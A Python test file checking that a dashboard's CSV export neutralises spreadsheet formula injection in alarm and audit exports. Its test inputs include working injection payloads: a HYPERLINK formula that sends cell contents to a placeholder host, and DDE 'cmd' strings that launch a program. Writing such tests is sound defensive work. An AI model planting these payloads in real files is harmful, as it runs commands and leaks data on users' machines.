"""CSV exports are safe to open in a spreadsheet: text that starts like a formula stays text (CSV injection).

The alarms come from a real cache file through the same reads the export button uses (dashboard.data), so
text the service sent (a panel name, a description) is exported as it is stored, then guarded.
"""

from __future__ import annotations

import csv
import io
import time
from datetime import UTC
from pathlib import Path

import pandas as pd
import pytest

from core import read
from core.cache import writes
from core.cache.db import open_cache
from dashboard import data, export
from tests.support.seed_cache import ORGS, seed_cache

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(payload: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(payload.decode())))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_cell_gets_a_leading_quote(text: str) -> None:
    assert export.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Intrusion", "alarm", "", "1-2", "a=b", "'quoted", 42, -5, None])
def test_other_cells_are_left_as_they_are(value: object) -> None:
    assert export.cell(value) == value


def test_the_alarms_export_of_a_real_cache_guards_every_text_column(tmp_path: Path) -> None:
    path = tmp_path / "cache.db"
    now = int(time.time() * 1000)
    seed_cache(path, now, activities=0)
    # Tuples in ACTIVITY_FIELDS order, as the sync writes them.
    rows = [
        (f"EV-{n}", 5001, ORGS[0][0], now - n * 1000, text, "violation", text, "alarm", None, None, None)
        for n, text in enumerate([*HOSTILE, "first line\rsecond line"])
    ]
    db = open_cache(path)
    with writes.write_transaction(db):
        writes.upsert_activities(db, "activities", rows)
    db.conn.close()

    payload = export.alarms_csv(data.alarm_chunks(str(path), read.AlarmFilter()), "", UTC)
    header, *body = cells(payload)
    assert header == list(export.ALARM_COLUMNS)
    exported = {(r[header.index("Violation")], r[header.index("Description")]) for r in body}
    # A carriage return inside a cell is quoted, not a row break: the cell reads back whole.
    assert exported == {("'" + text, "'" + text) for text in HOSTILE} | {("first line\rsecond line",) * 2}
    for row in body:
        assert not row[header.index("Time")].startswith("'")  # times and ids are not text: left alone
        assert row[header.index("Panel id")] == "5001"


def test_search_text_in_the_heading_cannot_open_a_cell() -> None:
    head = export.heading("samops alarms", 'text: a,=1+1,"b', None, 0, UTC)
    first, second = cells(head.encode())
    assert first == ['# samops alarms; filters: text: a,=1+1,"b'] and len(second) == 1


def test_the_audit_export_guards_text_and_leaves_numbers() -> None:
    frame = pd.DataFrame(
        {
            "When": pd.to_datetime([0, 1000], unit="ms", utc=True),
            "Command": ["=cmd|' /C calc'!A0", "/sam ack 12"],
            "Count": [-3, 4],
        }
    )
    header, *body = cells(export.table_csv(frame, "", UTC))
    assert header == ["When", "Command", "Count"]
    assert [row[1:] for row in body] == [["'=cmd|' /C calc'!A0", "-3"], ["/sam ack 12", "4"]]
